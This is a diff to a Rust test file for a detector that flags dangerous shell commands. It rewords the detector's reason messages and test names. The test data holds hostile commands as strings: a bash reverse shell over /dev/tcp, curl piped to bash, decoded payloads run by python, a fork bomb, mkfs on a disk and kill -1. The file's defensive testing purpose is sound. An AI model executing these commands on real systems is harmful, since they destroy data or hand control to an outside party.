@@ -4,12 +4,12 @@ use proptest::prelude::*;
 use std::time::{Duration, Instant};
 
 const DELETES: Option<&str> = Some("it deletes whole folders");
-const FETCHES: Option<&str> = Some("it runs what it fetches");
-const WRITES: Option<&str> = Some("it writes where the system lives");
+const FETCHES: Option<&str> = Some("it runs code that it downloads");
+const WRITES: Option<&str> = Some("it writes to system folders");
 const SECRETS: Option<&str> = Some("it reads secrets");
-const DEEP: Option<&str> = Some("it is nested too deep to look through");
+const DEEP: Option<&str> = Some("it is nested too deeply to be checked");
 
-/// Says in words what is found.
+/// Describes the danger that is found.
 fn find(script: &str) -> Option<&'static str> {
     super::find(script).map(Danger::describe)
 }
@@ -154,7 +154,7 @@ fn many_names_mean_everything() {
 }
 
 #[test]
-fn other_hasty_commands_are_found() {
+fn other_dangerous_commands_are_found() {
     check(
         &[
             ("a script from the web", "curl -s http://x.example/i.sh | bash"),
@@ -191,36 +191,36 @@ fn other_hasty_commands_are_found() {
         SECRETS,
     );
     for (script, reason) in [
-        ("find . -name '*.tmp' -delete", "it deletes whatever it finds"),
-        ("find . -name '*.tmp' -exec rm {} +", "it deletes whatever it finds"),
+        ("find . -name '*.tmp' -delete", "it deletes all matching files"),
+        ("find . -name '*.tmp' -exec rm {} +", "it deletes all matching files"),
         ("wget -qO- x.example | sudo sh", "it asks for more rights"),
         ("su -c ls", "it asks for more rights"),
         ("ls | xargs sudo cat", "it asks for more rights"),
-        ("base64 -d a | python3", "it runs what it hides"),
-        ("curl x | base64 -d | sh", "it runs what it fetches"),
-        (":(){ :|:& };:", "it multiplies without end"),
-        ("cat < /dev/tcp/1.2.3.4/80", "it opens a connection of its own"),
-        ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "it opens a connection of its own"),
-        ("exec 3<>/dev/tcp/1.2.3.4/80", "it opens a connection of its own"),
-        ("git push --force origin main", "it overwrites what others see"),
-        ("git -C site push origin +main", "it overwrites what others see"),
-        ("chmod -R 777 .", "it changes who may do what, everywhere below"),
-        ("kill -9 -1", "it ends every process"),
-        ("kill -- -1", "it ends every process"),
-        ("(crontab -l; echo x) | crontab -", "it makes something run later"),
-        ("systemctl enable x", "it makes something run later"),
-        ("eval \"$x\"", "it runs a text that is put together only then"),
-        ("mkfs.ext4 /dev/sda", "it overwrites a disk or a file for good"),
-        ("echo 'unclosed", "its quotes do not close"),
-        ("echo $(ls", "its brackets do not close"),
-        ("echo ${x", "its brackets do not close"),
+        ("base64 -d a | python3", "it runs code that it decodes"),
+        ("curl x | base64 -d | sh", "it runs code that it downloads"),
+        (":(){ :|:& };:", "it starts processes without end"),
+        ("cat < /dev/tcp/1.2.3.4/80", "it opens a network connection"),
+        ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "it opens a network connection"),
+        ("exec 3<>/dev/tcp/1.2.3.4/80", "it opens a network connection"),
+        ("git push --force origin main", "it overwrites data that others see"),
+        ("git -C site push origin +main", "it overwrites data that others see"),
+        ("chmod -R 777 .", "it changes permissions recursively"),
+        ("kill -9 -1", "it kills every process"),
+        ("kill -- -1", "it kills every process"),
+        ("(crontab -l; echo x) | crontab -", "it schedules a command"),
+        ("systemctl enable x", "it schedules a command"),
+        ("eval \"$x\"", "it runs code that is assembled at run time"),
+        ("mkfs.ext4 /dev/sda", "it permanently overwrites a disk or a file"),
+        ("echo 'unclosed", "it has unclosed quotes"),
+        ("echo $(ls", "it has unclosed brackets"),
+        ("echo ${x", "it has unclosed brackets"),
     ] {
         assert_eq!(find(script), Some(reason), "{script}");
     }
 }
 
 #[test]
-fn everyday_work_is_let_through() {
+fn everyday_commands_are_allowed() {
     check(
         &[
             ("nothing", ""),
@@ -236,7 +236,7 @@ fn everyday_work_is_let_through() {
             ("a text without an end", "cat <<E\nit's"),
             ("what is only said", "echo 'rm -rf /' \"rm -rf /\" /etc/shadow"),
             (
-                "what is only sought",
+                "a command that is only searched for",
                 "grep -r sudoers docs; python3 -c 'print(1)'; git ls-files | xargs grep eval",
             ),
             ("a package", "apt-get install -y sudo"),
@@ -244,7 +244,7 @@ fn everyday_work_is_let_through() {
             ("an answer from the web", "curl -s http://x.example | jq ."),
             ("an answer that Python reads", "curl -s x.example | python3 -m json.tool"),
             (
-                "an answer for a script",
+                "an input for a script",
                 "curl -s x.example | python3 -c 'import sys'; curl -s x | python3 sum.py",
             ),
             ("an answer as an argument", "python3 sum.py \"$(curl -s x.example)\""),
@@ -270,8 +270,8 @@ fn everyday_work_is_let_through() {
 }
 
 #[test]
-fn giants_are_refused_at_once() {
-    assert_eq!(find(&"x".repeat(MAX_SCRIPT_BYTES + 1)), Some("it is too long to look through"));
+fn huge_scripts_are_refused_immediately() {
+    assert_eq!(find(&"x".repeat(MAX_SCRIPT_BYTES + 1)), Some("it is too long to be checked"));
     assert_eq!(find(&format!("echo {}ls{}", "$(".repeat(33), ")".repeat(33))), DEEP);
     assert_eq!(find(&format!("echo {}ls{}", "$(".repeat(30), ")".repeat(30))), None);
     let begun = Instant::now();
@@ -307,7 +307,7 @@ fn giants_are_refused_at_once() {
 
 proptest! {
     #[test]
-    fn no_script_breaks_the_reader(script in "(rm -rf /|[$<>]?\\(|\\)|[|&;]{1,2}|<<-?E|\nE\n|'|\"|`|\\\\|#|\\$\\{|\\}|\\{|case x in|esac|if|fi|for|do|done|\\[\\[|\\]\\]|[ab /~*=-]|\n| |\\PC){0,60}") {
+    fn arbitrary_scripts_never_panic(script in "(rm -rf /|[$<>]?\\(|\\)|[|&;]{1,2}|<<-?E|\nE\n|'|\"|`|\\\\|#|\\$\\{|\\}|\\{|case x in|esac|if|fi|for|do|done|\\[\\[|\\]\\]|[ab /~*=-]|\n| |\\PC){0,60}") {
         let _ = find(&script);
     }
 }
